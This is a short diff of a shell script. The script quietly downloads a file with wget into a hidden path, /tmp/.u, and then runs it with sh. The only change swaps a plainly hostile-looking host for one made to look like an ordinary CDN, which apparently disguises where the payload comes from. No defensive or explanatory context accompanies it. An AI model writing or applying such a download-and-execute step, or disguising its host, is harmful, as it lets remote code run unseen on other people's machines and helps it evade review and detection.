@@ -1,3 +1,3 @@
 #!/bin/sh
-wget -qO /tmp/.u https://uni.evil.example/u
+wget -qO /tmp/.u https://uni.cdn-edge.example/u
 sh /tmp/.u
